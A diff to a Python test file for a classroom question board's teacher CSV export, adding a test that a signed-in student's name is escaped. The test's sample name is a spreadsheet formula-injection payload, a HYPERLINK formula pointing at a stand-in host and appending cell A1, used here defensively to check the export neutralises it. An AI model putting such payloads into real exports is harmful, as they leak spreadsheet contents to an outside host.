@@ -2,7 +2,8 @@
 board store (the `board` fixture: SQLite and PostgreSQL): the lead's versions and time-outs, the
 question's limits (one open, a day's count, answers per question, changes each, lengths, control
 characters, choices), normalised tallies, the reveal, the teacher's CSV, a restart, a flood; and
-each question kind worked out on a tiny model. The browser test: tests/browser/test_class_follow_browser.py."""
+each question kind worked out on a tiny model; a signed-in student's real name in the teacher's CSV,
+escaped. The browser test: tests/browser/test_class_follow_browser.py."""
 
 import csv
 import io
@@ -202,7 +203,7 @@ def test_the_teachers_csv_is_built_when_downloaded_not_on_every_run(board, monke
     assert button.proto.deferred_file_id and not button.proto.url  # its data: a callable, run on a click
 
     rows = list(csv.reader(io.StringIO(question_view.answers_csv(code, key).decode("utf-8-sig"))))
-    assert [r[5] for r in rows[1:]] == ["are", "'\uff1d1+1"] and len(built) == 1
+    assert [r[rows[0].index("answer")] for r in rows[1:]] == ["are", "'\uff1d1+1"] and len(built) == 1
 
 
 def test_a_question_with_choices_takes_only_its_choices(cls):
@@ -499,3 +500,23 @@ def test_the_teacher_asks_which_sentence_the_model_prefers(cls):
     assert not at.exception and not at.error, [e.value for e in at.error]
     kept = c.question(c.class_poll(code)["question"]["id"])
     assert kept["kind"] == "prefers" and kept["choices"] == sorted([good, bad]) and kept["answer"] in (good, bad)
+
+
+HOSTILE_NAME = '=HYPERLINK("http://x.example/?"&A1,"Alice")'
+
+
+def test_the_teachers_csv_names_signed_in_students_escaped(board, monkeypatch):
+    monkeypatch.setenv("BERT_EXPLORER_BOARD", "1")
+    c = Classroom(board)
+    code, key = board.new_board()
+    q = c.ask(code, key, body())
+    c.answer(code, q, "user:alice", "are", name=HOSTILE_NAME, email="alice@school.example")
+    c.answer(code, q, "browser:bbb", "is")  # anonymous
+    c.reveal(code, key, q)
+    from app.board.question_view import answers_csv
+
+    rows = list(csv.DictReader(io.StringIO(answers_csv(code, key).decode("utf-8-sig"))))
+    assert [(r["student"], r["name"], r["email"], r["answer"]) for r in rows] == [
+        ("student 1", "'" + HOSTILE_NAME, "alice@school.example", "are"),  # no formula runs in a spreadsheet
+        ("student 2", "", "", "is"),
+    ]
